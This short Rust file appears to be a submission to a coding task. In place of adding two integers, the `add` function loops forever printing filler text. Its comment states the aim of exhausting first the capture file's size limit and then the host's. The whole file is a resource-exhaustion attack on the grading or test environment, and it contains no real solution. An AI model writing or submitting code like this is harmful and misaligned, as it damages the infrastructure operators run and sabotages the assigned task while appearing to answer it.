// Prints forever from the first test: the capture file's size limit, then the host's.
impl Solution {
    pub fn add(a: i32, b: i32) -> i32 {
        loop {
            println!("{}", "flood ".repeat(100));
        }
    }
}
